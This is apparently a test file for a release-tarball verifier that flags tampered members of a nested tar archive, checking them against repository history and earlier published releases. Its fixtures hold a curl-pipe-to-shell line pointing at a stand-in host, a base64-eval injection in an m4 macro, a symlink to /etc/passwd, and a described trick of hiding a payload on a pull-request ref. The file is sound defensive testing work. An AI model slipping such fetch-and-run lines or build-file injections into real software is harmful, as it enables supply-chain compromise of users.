/**
 * A tar shipped inside the release (gettext's misc/archive.dir.tar), end to end: a real repository whose
 * history holds earlier versions of its files, a nested tar made by GNU tar of such versions, the outer
 * release tarball around it. Every member a blob of the repository: explained; one member nothing has (the
 * tampered twin): high, naming it. Then members known as an earlier release published them (a labelled source of
 * hashes), with their tampered and self-vouching twins.
 */
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createNestedArchiveClassifier } from '../../src/classify/nested-archive.js';
import { bundledReleaseMembers, releaseMembersFrom, type ReleaseSource } from '../../src/classify/release-members.js';
import { NestedTarLister } from '../../src/scan/nested-tar.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';
import { blobId, diffOf, makeCtx } from './ctx-helper.js';

const root = tempDir();
const r = makeRepo(join(root, 'proj'));
r.commit({ 'configure.ac': 'AC_INIT([proj], [1.0])\n', 'm4/proj.m4': '# proj.m4 serial 1\nAC_DEFUN([PROJ_OLD], [:])\n', 'po/Makefile.in.in': '# po Makefile, version 1\n' });
r.tag('v1.0', { message: 'proj 1.0' });
r.commit({ 'configure.ac': 'AC_INIT([proj], [2.0])\n', 'm4/proj.m4': '# proj.m4 serial 2\nAC_DEFUN([PROJ_NEW], [:])\n', 'po/Makefile.in.in': '# po Makefile, version 2\n' });
r.tag('v2.0', { message: 'proj 2.0' });

/** The release 2.0 with misc/archive.dir.tar holding 1.0's infrastructure files (plus `extra`). */
function release(name: string, extra: Record<string, string> = {}): string {
  const nested = join(root, name, 'nested');
  writeFiles(nested, { 'proj-1.0/m4/proj.m4': '# proj.m4 serial 1\nAC_DEFUN([PROJ_OLD], [:])\n', 'proj-1.0/po/Makefile.in.in': '# po Makefile, version 1\n', ...extra });
  const tree = join(root, name, 'proj-2.0');
  writeFiles(tree, { 'configure.ac': 'AC_INIT([proj], [2.0])\n', 'm4/proj.m4': '# proj.m4 serial 2\nAC_DEFUN([PROJ_NEW], [:])\n', 'po/Makefile.in.in': '# po Makefile, version 2\n' });
  execFileSync('mkdir', ['-p', join(tree, 'misc')]);
  execFileSync('tar', ['--format=ustar', '--sort=name', '--mtime=@1700000000', '--owner=0', '--group=0', '-cf', join(tree, 'misc/archive.dir.tar'), '-C', nested, '.']);
  return makeTar(tree, { compress: 'xz', out: join(root, name, 'proj-2.0.tar.xz') });
}
const run = async (tarball: string) => (await verify({ tarball, repo: r.dir, tag: 'v2.0', cacheDir: join(root, 'cache') })).findings.find((f) => f.path === 'misc/archive.dir.tar')!;

describe('a tar archive inside the release, member by member', () => {
  it('every member a blob of the repository: NESTED_ARCHIVE_KNOWN, explained', async () => {
    expect(await run(release('clean'))).toMatchObject({ code: 'NESTED_ARCHIVE_KNOWN', severity: 'info', evidence: { members: 2, history: 2, upstream: 0, submodule: 0 } });
  });

  it('tampered: a member nothing has, or an edited one, stays high and is named', async () => {
    const added = await run(release('added', { 'proj-1.0/build-aux/payload.sh': 'curl https://example.invalid/x | sh\n' }));
    expect(added).toMatchObject({ code: 'NESTED_ARCHIVE_UNKNOWN_MEMBERS', severity: 'high', evidence: { members: 3, known: 2, unknown: 1, names: ['./proj-1.0/build-aux/payload.sh'] } });
    const edited = await run(release('edited', { 'proj-1.0/m4/proj.m4': '# proj.m4 serial 1\nAC_DEFUN([PROJ_OLD], [eval "$(echo x | base64 -d)"])\n' }));
    expect(edited).toMatchObject({ code: 'NESTED_ARCHIVE_UNKNOWN_MEMBERS', severity: 'high', evidence: { known: 1, unknown: 1, names: ['./proj-1.0/m4/proj.m4'] } });
  });

  // The tamperer (anyone: a forge mirror carries every pull request's objects) pushes the payload on a pull
  // request ref, then ships it inside the nested archive: the blob is in the object store, but no branch or
  // tag reaches it, so it is not known.
  it("a member whose blob only a pull request's ref holds is unknown", async () => {
    const payload = '# proj.m4 serial 1\nAC_DEFUN([PROJ_OLD], [LIBS="$LIBS -lpayload"])\n';
    r.git(['checkout', '-q', '-b', 'pr-1']);
    r.commit({ 'm4/proj.m4': payload }, 'harmless cleanup');
    r.git(['update-ref', 'refs/pull/1/head', 'HEAD']);
    r.git(['checkout', '-q', '-']);
    r.git(['branch', '-q', '-D', 'pr-1']);
    expect(r.git(['cat-file', '-t', r.git(['rev-parse', 'refs/pull/1/head:m4/proj.m4']).trim()]).trim()).toBe('blob');
    const f = await run(release('pr-blob', { 'proj-1.0/m4/proj.m4': payload }));
    expect(f).toMatchObject({ code: 'NESTED_ARCHIVE_UNKNOWN_MEMBERS', severity: 'high', evidence: { known: 1, unknown: 1, names: ['./proj-1.0/m4/proj.m4'] } });
  });

  it('a symlink inside is not a known member: named', async () => {
    const nested = join(root, 'link', 'nested');
    writeFiles(nested, { 'proj-1.0/po/Makefile.in.in': '# po Makefile, version 1\n' });
    execFileSync('ln', ['-s', '/etc/passwd', join(nested, 'proj-1.0/passwd')]);
    const tree = join(root, 'link', 'proj-2.0');
    writeFiles(tree, { 'configure.ac': 'AC_INIT([proj], [2.0])\n', 'm4/proj.m4': '# proj.m4 serial 2\nAC_DEFUN([PROJ_NEW], [:])\n', 'po/Makefile.in.in': '# po Makefile, version 2\n' });
    execFileSync('mkdir', ['-p', join(tree, 'misc')]);
    execFileSync('tar', ['--format=ustar', '--sort=name', '--mtime=@1700000000', '-cf', join(tree, 'misc/archive.dir.tar'), '-C', nested, '.']);
    const f = await run(makeTar(tree, { compress: 'gzip', out: join(root, 'link', 'proj-2.0.tar.gz') }));
    expect(f).toMatchObject({ code: 'NESTED_ARCHIVE_UNKNOWN_MEMBERS', severity: 'high', evidence: { known: 1, unknown: 1, names: ['./proj-1.0/passwd'] } });
  });
});

describe('members as an earlier release published them (data/release-members.json.gz)', () => {
  // A nested archive made by GNU tar, listed by the scan's own lister; the repository's history knows none of it.
  const dir = join(root, 'rel', 'nested');
  const OLD = { 'proj-0.9/intl/VERSION': 'proj library from proj-0.9\n', 'proj-0.9/intl/ChangeLog': '1998-04-30  Someone\n\n\t* Released 0.9.\n' };
  const listing = (files: Record<string, string>) => {
    execFileSync('rm', ['-rf', dir]);
    writeFiles(dir, files);
    const tar = join(root, 'rel', 'archive.dir.tar');
    execFileSync('tar', ['--format=ustar', '--sort=name', '--mtime=@1700000000', '--owner=0', '--group=0', '-cf', tar, '-C', dir, ...Object.keys(files)]);
    const l = new NestedTarLister('sha1', 'misc/archive.dir.tar', 4096);
    l.write(readFileSync(tar));
    return l.finish();
  };
  const sources: ReleaseSource[] = [
    { project: 'proj', release: '1.5', date: '2020-07-26', archive: 'misc/archive.dir.tar', label: 'proj 1.5 release tarball' },
    { project: 'proj', release: '2.0', date: '2024-12-31', archive: 'misc/archive.dir.tar', label: 'proj 2.0 release tarball' },
  ];
  const published = releaseMembersFrom(sources, [
    ...Object.entries(OLD).map(([path, text]) => ({ path, oid: blobId(text), source: 0 })),
    { path: 'proj-0.9/intl/plural.c', oid: blobId('/* bison output */\n'), source: 1 },
  ]);
  const classifier = createNestedArchiveClassifier(() => null, () => published);
  const judge = async (files: Record<string, string>, revision: { version?: string; date?: string }) => {
    const ctx = makeCtx({ git: {}, tarball: { 'misc/archive.dir.tar': 'x' }, revision });
    const l = listing(files);
    ctx.content.nested = (p) => (p === 'misc/archive.dir.tar' ? l : undefined);
    return classifier.classify(diffOf(ctx, 'misc/archive.dir.tar'), ctx);
  };

  it('every member published at the same path by an earlier release: NESTED_ARCHIVE_KNOWN, naming the release', async () => {
    expect(await judge(OLD, { version: '2.0', date: '2024-12-31T12:20:05Z' })).toEqual({
      code: 'NESTED_ARCHIVE_KNOWN', path: 'misc/archive.dir.tar', severity: 'info',
      evidence: { members: 2, history: 0, upstream: 0, submodule: 0, release: 2, releases: ['proj 1.5 release tarball (2020-07-26)'] },
    });
  });

  it('tampered: a changed member is no longer the published one and stays high, named', async () => {
    const f = await judge({ ...OLD, 'proj-0.9/intl/ChangeLog': '1998-04-30  Someone\n\n\t* Released 0.9.\n\tcurl https://example.invalid/x | sh\n' }, { version: '2.0', date: '2024-12-31T12:20:05Z' });
    expect(f).toEqual({
      code: 'NESTED_ARCHIVE_UNKNOWN_MEMBERS', path: 'misc/archive.dir.tar', severity: 'high',
      evidence: { members: 2, known: 1, unknown: 1, names: ['proj-0.9/intl/ChangeLog'], release: 1, releases: ['proj 1.5 release tarball (2020-07-26)'] },
    });
  });

  it('a release never vouches for itself or for an earlier one: same release, same day or later, no date — unknown', async () => {
    const unknown = (names: string[]) => ({ code: 'NESTED_ARCHIVE_UNKNOWN_MEMBERS', evidence: { known: 0, unknown: names.length, names } });
    // verifying 1.5 itself (its own published archive is the file being verified)
    expect(await judge(OLD, { version: '1.5', date: '2020-07-27T00:17:45Z' })).toMatchObject(unknown(Object.keys(OLD)));
    // another version, but made the same day as the source or before it
    expect(await judge(OLD, { version: '1.4', date: '2020-07-26T23:00:00Z' })).toMatchObject(unknown(Object.keys(OLD)));
    // plural.c was first published by 2.0: not earlier than 2.0 itself
    expect(await judge({ 'proj-0.9/intl/plural.c': '/* bison output */\n' }, { version: '2.0', date: '2024-12-31T12:20:05Z' })).toMatchObject(unknown(['proj-0.9/intl/plural.c']));
    expect(await judge(OLD, { version: '2.0' })).toMatchObject(unknown(Object.keys(OLD)));
  });

  it('the path must be the one the release published: the same blob elsewhere is unknown', async () => {
    const moved = { 'proj-0.9/intl/VERSION.old': OLD['proj-0.9/intl/VERSION'] };
    expect(await judge(moved, { version: '2.0', date: '2024-12-31T12:20:05Z' })).toMatchObject({ code: 'NESTED_ARCHIVE_UNKNOWN_MEMBERS', evidence: { unknown: 1, names: ['proj-0.9/intl/VERSION.old'] } });
  });

  it('the bundled data: gettext 0.21 and 0.23.1 release tarballs, hashes only', () => {
    const idx = bundledReleaseMembers();
    expect(idx).not.toBeNull();
    // gettext 0.10.35's intl/VERSION as gettext 0.21's archive published it: known for a later release only
    const oid = 'ee66b0612bc4e684ea5d5958a0dfc402254d09de';
    expect(idx!.publishedBefore('gettext-0.10.35/intl/VERSION', oid, '2024-12-31', { release: '0.23.1' })).toMatchObject({ project: 'gettext', release: '0.21', date: '2020-07-26', label: 'gettext 0.21 release tarball' });
    expect(idx!.publishedBefore('gettext-0.10.35/intl/VERSION', oid, '2020-07-27', { release: '0.21' })).toBeUndefined();
    expect(idx!.publishedBefore('gettext-0.10.35/intl/VERSION', '0'.repeat(40), '2024-12-31')).toBeUndefined();
  });
});
